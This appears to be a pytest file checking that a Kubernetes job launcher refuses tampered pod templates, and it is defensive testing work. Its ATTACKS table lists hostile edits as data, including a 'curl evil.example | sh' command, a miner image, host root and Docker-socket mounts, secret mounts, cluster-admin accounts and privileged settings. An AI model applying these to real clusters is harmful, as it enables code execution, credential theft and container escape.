"""Every pod template of a bundle is checked against the restricted policy the templates promise,
independently of the bundle's signature: a pod that differs in image, command, volumes, users,
capabilities, service account or seccomp is refused with one line naming the offending field."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from launcher.bundle import read_bundle
from launcher.manifest_check import ManifestRefused, check_pod_policy

Spec = dict[str, Any]


def _container(spec: Spec) -> Spec:
    return spec["containers"][0]


def _set(path: str, value: Any) -> Callable[[Spec], None]:
    """An edit of the pod spec: a dotted path, `c.` for the trainer container."""

    def edit(spec: Spec) -> None:
        keys = path.split(".")
        node = _container(spec) if keys[0] == "c" else spec
        keys = keys[1:] if keys[0] == "c" else keys
        for k in keys[:-1]:
            node = node.setdefault(k, {})
        node[keys[-1]] = value

    return edit


def _add_volume(volume: Spec, mount: str = "/host") -> Callable[[Spec], None]:
    def edit(spec: Spec) -> None:
        spec["volumes"].append(volume)
        _container(spec)["volumeMounts"].append({"name": volume["name"], "mountPath": mount})

    return edit


def _replace_volume(name: str, volume: Spec) -> Callable[[Spec], None]:
    def edit(spec: Spec) -> None:
        spec["volumes"] = [volume if v["name"] == name else v for v in spec["volumes"]]

    return edit


ATTACKS = {
    "image": (_set("c.image", "evil.example/miner:1"), "image"),
    "command": (_set("c.command", ["sh", "-c", "curl evil.example | sh"]), "command"),
    "trainer-flags": (
        lambda s: _container(s)["command"].extend(["--init-from", "s3://evil/w"]),
        "command",
    ),
    "args": (_set("c.args", ["--x"]), "args"),
    "host-root-as-nvme": (_add_volume({"name": "nvme", "hostPath": {"path": "/"}}), "hostPath"),
    "host-docker-socket": (
        _add_volume({"name": "sock", "hostPath": {"path": "/var/run/docker.sock"}}),
        "hostPath",
    ),
    "secret-volume": (_add_volume({"name": "creds", "secret": {"secretName": "admin"}}), "secret"),
    "config-swapped": (
        _replace_volume("config", {"name": "config", "configMap": {"name": "someone-else"}}),
        "configMap",
    ),
    "root-user": (_set("securityContext.runAsUser", 0), "runAsUser"),
    "root-allowed": (_set("securityContext.runAsNonRoot", False), "runAsNonRoot"),
    "container-root": (_set("c.securityContext.runAsUser", 0), "runAsUser"),
    "sys-admin": (_set("c.securityContext.capabilities", {"add": ["SYS_ADMIN"]}), "capabilities"),
    "keep-caps": (_set("c.securityContext.capabilities", {"drop": []}), "capabilities"),
    "escalation": (_set("c.securityContext.allowPrivilegeEscalation", True), "allowPrivilegeEscalation"),
    "privileged": (_set("c.securityContext.privileged", True), "privileged"),
    "admin-account": (_set("serviceAccountName", "cluster-admin"), "serviceAccountName"),
    "token-mounted": (_set("automountServiceAccountToken", True), "automountServiceAccountToken"),
    "unconfined": (_set("securityContext.seccompProfile", {"type": "Unconfined"}), "seccompProfile"),
    "host-network": (_set("hostNetwork", True), "hostNetwork"),
    "host-pid": (_set("hostPID", True), "hostPID"),
    "pinned-node": (_set("nodeName", "control-plane-0"), "nodeName"),
    "sidecar": (lambda s: s["containers"].append({"name": "x", "image": "busybox"}), "containers"),
    "init": (_set("initContainers", [{"name": "x", "image": "busybox"}]), "initContainers"),
    "host-port": (lambda s: _container(s)["ports"][0].update(hostPort=22), "hostPort"),
    "secret-env": (
        lambda s: _container(s)["env"].append(
            {"name": "X", "valueFrom": {"secretKeyRef": {"name": "admin", "key": "token"}}}
        ),
        "secretKeyRef",
    ),
    "other-secret": (_set("c.envFrom", [{"secretRef": {"name": "admin"}}]), "envFrom"),
}


@pytest.fixture
def rendered(tmp_path, state_dir, bundle_factory):
    return read_bundle(bundle_factory(tmp_path / "b", nodes=2))


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_pod_evaplan_would_not_render_is_refused(attack, rendered):
    edit, field = ATTACKS[attack]
    check_pod_policy(rendered.workload, "b", rendered.pod_promise)  # as rendered: passes
    job = copy.deepcopy(rendered.workload)
    edit(job["spec"]["template"]["spec"])
    with pytest.raises(ManifestRefused) as e:
        check_pod_policy(job, "b", rendered.pod_promise)
    assert field in e.value.message and "\n" not in e.value.message, e.value.message


@pytest.mark.parametrize(
    ("flavor", "extra"),
    [
        ("indexed-job", {}),
        ("pytorchjob", {"service_account": "trainer", "s3_secret": "s3-creds", "rdma_resource": "rdma/ib"}),
        ("jobset", {"checkpoint_pvc": "ckpt", "data_pvc": "shards", "data_url": "/data/shards"}),
    ],
)
def test_every_flavour_as_rendered_passes(flavor, extra, tmp_path, state_dir, bundle_factory):
    b = read_bundle(bundle_factory(tmp_path / flavor, flavor=flavor, nodes=2, options=extra))
    check_pod_policy(b.workload, flavor, b.pod_promise)
    if extra.get("service_account"):
        spec = b.workload["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"]
        spec["serviceAccountName"] = "cluster-admin"
        with pytest.raises(ManifestRefused, match="serviceAccountName"):
            check_pod_policy(b.workload, flavor, b.pod_promise)


def test_the_nvme_folder_is_the_only_host_path(tmp_path, state_dir, bundle_factory):
    b = read_bundle(
        bundle_factory(tmp_path / "nvme", nodes=1, offload="nvme", options={"nvme_host_path": "/local_nvme"})
    )
    spec = b.workload["spec"]["template"]["spec"]
    assert {"name": "nvme", "hostPath": {"path": "/local_nvme", "type": "DirectoryOrCreate"}} in spec[
        "volumes"
    ]
    check_pod_policy(b.workload, "nvme", b.pod_promise)
    for path in ("/", "/etc", "/local_nvme/../.."):
        job = copy.deepcopy(b.workload)
        _replace_volume("nvme", {"name": "nvme", "hostPath": {"path": path, "type": "DirectoryOrCreate"}})(
            job["spec"]["template"]["spec"]
        )
        with pytest.raises(ManifestRefused, match="hostPath"):
            check_pod_policy(job, "nvme", b.pod_promise)
